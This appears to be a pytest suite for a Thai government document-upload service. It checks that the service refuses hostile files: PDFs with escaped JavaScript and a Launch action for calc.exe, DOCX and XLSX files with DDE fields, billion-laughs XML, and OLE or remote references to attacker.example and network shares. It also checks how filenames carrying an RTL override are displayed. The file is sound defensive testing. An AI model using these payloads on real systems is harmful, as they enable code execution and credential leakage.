"""More hostile uploads through the real view (36 kinds in tests/submissions, these make it 40+)."""

import pytest
from django.urls import reverse

from core.validators.content import UploadRefused, inspect_file
from submissions.models import Evidence
from tests.submissions import files
from tests.submissions.conftest import stored_files

from . import files_more as more

JSON = {"accept": "application/json"}
TYPE = (
    "ชนิดไฟล์ไม่ถูกต้อง: ตัวชี้วัด ๑.๑ รับเฉพาะ PDF, JPG, PNG, Word (DOCX), Excel (XLSX), PowerPoint (PPTX) (ตรวจจาก"
    "เนื้อหาไฟล์ ไม่ใช่นามสกุล) ให้บันทึกไฟล์เป็นชนิดข้างต้นก่อน หรือส่งที่อยู่ของไฟล์ทางช่อง “ส่งลิงก์” ในหน้านี้"
)
TYPE_VIDEO = (
    "ชนิดไฟล์ไม่ถูกต้อง: ตัวชี้วัด ๔.๑.๒ รับเฉพาะ PDF, วีดิทัศน์ (MP4, MOV, M4V, 3GP) (ตรวจจากเนื้อหาไฟล์ ไม่ใช่นามสกุล)"
    " วีดิทัศน์ชนิดอื่นให้บันทึกเป็น MP4 ก่อน หรือส่งที่อยู่บน YouTube หรือ Facebook ทางช่อง “ส่งลิงก์” ในหน้านี้"
)

REFUSED = [
    ("png_truncated", "1.1", "a.png", more.png_truncated, "ไฟล์ PNG ไม่สมบูรณ์"),
    ("jpeg_trailing_html", "1.1", "a.jpg", more.jpeg_trailing_html, TYPE),
    ("mp4_unknown_brand", "4.1.2", "clip.mp4", lambda: more.mp4_brand(b"heic"), TYPE_VIDEO),
    ("ooxml_too_many_parts", "1.1", "plan.docx", lambda: more.ooxml_parts(5001), "ไฟล์มีส่วนประกอบมากผิดปกติ"),
    ("exe_named_double_extension", "1.1", "a.pdf.exe", lambda: b"MZ\x90\x00" + b"\x00" * 200, TYPE),
]


ACTIVE_CONTENT = [
    pytest.param(
        "1.1",
        "a.pdf",
        more.pdf_javascript,
        "PDF",
        id="pdf_openaction_javascript",
    ),
    pytest.param(
        "1.1",
        "a.pdf",
        more.pdf_markup_after_head,
        "PDF",
        id="pdf_html_after_first_4k",
    ),
    pytest.param(
        "1.1",
        "a.jpg",
        more.jpeg_html_after_head,
        "JPG",
        id="jpeg_html_after_first_4k",
    ),
    pytest.param(
        "4.1.2",
        "clip.mp4",
        more.mp4_then_html,
        "วีดิทัศน์",
        id="mp4_ftyp_then_html",
    ),
    pytest.param(
        "1.1",
        "plan.docx",
        more.docx_remote_template,
        "DOCX",
        id="docx_external_remote_template",
    ),
    pytest.param(
        "1.1",
        "plan.docx",
        more.docx_xml_bomb,
        "DOCX",
        id="docx_billion_laughs",
    ),
    pytest.param(
        "1.1",
        "book.xlsx",
        more.xlsx_dde,
        "XLSX",
        id="xlsx_dde_formula",
    ),
]

# Fine files under hostile names: stored under a random server name, shown under a cleaned name.
NAMES = [
    ("invoice\u202efdp.exe", "invoicefdp.exe.pdf"),  # RTL override: gone, the real extension shows
    ("CON.pdf", "CON.pdf"),  # Windows reserved name: harmless, the disk name is the server's
    ("a.pdf.exe", "a.pdf.exe.pdf"),  # double extension: the real type is appended
    ("re\u0301sume\u0301.pdf", "r\u00e9sum\u00e9.pdf"),  # decomposed accents: NFC
    (
        "\uff52\uff45\uff50\uff4f\uff52\uff54\uff0e\uff50\uff44\uff46",
        "\uff52\uff45\uff50\uff4f\uff52\uff54\uff0e\uff50\uff44\uff46.pdf",
    ),
    ("rep\u200bort\u200d\ufeff.pdf", "report.pdf"),  # zero-width characters removed
    ("\u0e23\u0e32\u0e22\u0e07\u0e32\u0e19\u0e1b\u0e35 \u0e52\u0e55\u0e56\u0e56.pdf", "รายงานปี ๒๕๖๖.pdf"),
]


@pytest.fixture
def owner_client(client, provincial_user):
    client.force_login(provincial_user)
    return client


def _url(code: str) -> str:
    return reverse("submissions:upload", args=[2566, "TH-50", code])


def _assert_refused(response, media_root, reason: str) -> None:
    assert response.status_code == 400
    body = response.json()
    assert [r["th"] for r in body["refused"]] == [reason]
    assert body["created"] == []
    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


@pytest.mark.parametrize(("case", "code", "name", "build", "reason"), REFUSED, ids=[r[0] for r in REFUSED])
def test_upload_hostile_kind_refused_in_thai_and_nothing_stored(
    owner_client, media_root, case, code, name, build, reason
):
    response = owner_client.post(_url(code), {"file": files.upload(name, build())}, headers=JSON)

    _assert_refused(response, media_root, reason)


@pytest.mark.parametrize(("code", "name", "build", "kind"), ACTIVE_CONTENT)
def test_upload_active_content_refused_and_nothing_stored(owner_client, media_root, code, name, build, kind):
    response = owner_client.post(_url(code), {"file": files.upload(name, build())}, headers=JSON)

    assert response.status_code == 400
    assert response.json()["created"] == []
    assert response.json()["refused"][0]["th"].startswith(("ชนิดไฟล์ไม่ถูกต้อง", "ไม่รับ", f"ไฟล์ {kind}", f"ไฟล์{kind}"))
    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


def test_upload_encrypted_pdf_stored_as_attachment(owner_client, media_root):
    """Owner-password PDFs (print/copy locks) are common in government offices: kept, served as download."""
    response = owner_client.post(_url("1.1"), {"file": files.upload("locked.pdf", more.pdf_encrypted())}, headers=JSON)

    assert response.status_code == 201
    evidence = Evidence.objects.get()
    assert (evidence.content_type, evidence.original_name) == ("application/pdf", "locked.pdf")
    download = owner_client.get(reverse("submissions:download", args=[evidence.pk]))
    assert download["Content-Disposition"] == 'attachment; filename="locked.pdf"'
    assert download["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(("raw", "shown"), NAMES)
def test_upload_trick_name_stored_under_server_name(owner_client, media_root, raw, shown):
    response = owner_client.post(_url("1.1"), {"file": files.upload(raw, files.pdf())}, headers=JSON)

    assert response.status_code == 201
    evidence = Evidence.objects.get()
    assert evidence.original_name == shown
    server_name = evidence.stored_path.rsplit("/", 1)[1]
    assert len(server_name) == 32 and server_name.isalnum() and server_name.isascii()
    assert [p.name for p in stored_files(media_root)] == [server_name]


# Active content hidden from a check of bytes and patterns: escaped names, object streams, split runs.
HIDDEN_ACTIVE_CONTENT = [
    pytest.param(
        "a.pdf",
        lambda: more.pdf_escaped_name(b"/S /Java#53cript /J#53 (app.alert\\(1\\))"),
        id="pdf_name_escape_javascript",
    ),
    pytest.param("a.pdf", lambda: more.pdf_escaped_name(b"/S /L#61unch /F (calc.exe)"), id="pdf_name_escape_launch"),
    pytest.param("a.pdf", more.pdf_javascript_in_object_stream, id="pdf_javascript_in_object_stream"),
    pytest.param("plan.docx", more.docx_dde_split_runs, id="docx_dde_split_across_instrtext"),
    pytest.param(
        "plan.docx",
        lambda: more.docx_relationship("image", "file://attacker.example/share/x.png"),
        id="docx_external_image_network_share",
    ),
    pytest.param(
        "plan.docx", lambda: more.docx_relationship("oleObject", "http://attacker.example/o.bin"), id="docx_ole"
    ),
    pytest.param("plan.docx", more.docx_backtracking_formula, id="docx_backtracking_formula_392_bytes"),
    pytest.param(
        "plan.docx",
        lambda: more.docx_field([" INCLUDEPICTURE ", '"\\\\\\\\attacker\\\\share\\\\x.png" \\d']),
        id="docx_includepicture_network_share",
    ),
]


@pytest.mark.parametrize(("name", "build"), HIDDEN_ACTIVE_CONTENT)
def test_upload_hidden_active_content_refused_fast(owner_client, media_root, name, build):
    response = owner_client.post(_url("1.1"), {"file": files.upload(name, build())}, headers=JSON)

    assert response.status_code == 400
    assert response.json()["refused"][0]["th"].startswith(("ไม่รับไฟล์", "ไฟล์เอกสารเสียหาย"))
    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


def test_backtracking_docx_is_392_bytes_and_refused(tmp_path):
    """How fast (well under a second, however the formula backtracks) is bench/content_checks.py's figure."""
    path = tmp_path / "f.docx"
    path.write_bytes(more.docx_backtracking_formula())
    with pytest.raises(UploadRefused):
        inspect_file(str(path))
    assert 300 < path.stat().st_size < 500


FINE_15 = [
    pytest.param("a.pdf", more.pdf_real_plain, id="pdf_real_with_object_streams"),
    pytest.param(
        "plan.docx",
        lambda: more.docx_relationship("hyperlink", "https://www.cdd.go.th/"),
        id="docx_external_hyperlink_kept",
    ),
    pytest.param("plan.docx", lambda: more.docx_field([" PAGE ", "\\* MERGEFORMAT"]), id="docx_page_field_kept"),
    pytest.param("plan.docx", lambda: more.docx_field([" HYPERLINK ", '"https://x.example/DDE"']), id="docx_dde_text"),
    pytest.param(
        "plan.docx",
        lambda: more.docx_field([' INCLUDEPICTURE "https://www.cdd.go.th/logo.png" \\d ']),
        id="docx_includepicture_web_kept",
    ),
]


@pytest.mark.parametrize(("name", "build"), FINE_15)
def test_upload_ordinary_files_still_accepted(owner_client, media_root, name, build):
    response = owner_client.post(_url("1.1"), {"file": files.upload(name, build())}, headers=JSON)

    assert response.status_code == 201, response.json()


def test_check_that_runs_out_of_time_refuses_the_file(tmp_path, settings):
    """The budget is real: a check past CDD4_UPLOAD_CHECK_SECONDS stops and refuses, with a Thai reason."""
    settings.CDD4_UPLOAD_CHECK_SECONDS = 0
    path = tmp_path / "long.docx"
    path.write_bytes(more.docx_field(["PAGE"] * 600))
    with pytest.raises(UploadRefused) as refused:
        inspect_file(str(path))
    assert refused.value.th.startswith("ไฟล์ซับซ้อนเกินกว่าจะตรวจได้ในเวลาที่กำหนด")


def test_large_ordinary_workbook_walked_whole_and_accepted(tmp_path, settings):
    """20,000 rows with formulas: walked to the end and accepted, never refused by a limit on its shape (the
    limits are for hostile files). How long the walk takes against the budget is bench/content_checks.py's
    figure: a timed assertion here failed whenever the machine was busy."""
    settings.CDD4_UPLOAD_CHECK_SECONDS = 60
    path = tmp_path / "big.xlsx"
    path.write_bytes(more.xlsx(more.ordinary_rows()))
    assert inspect_file(str(path)).subtype == "xlsx"
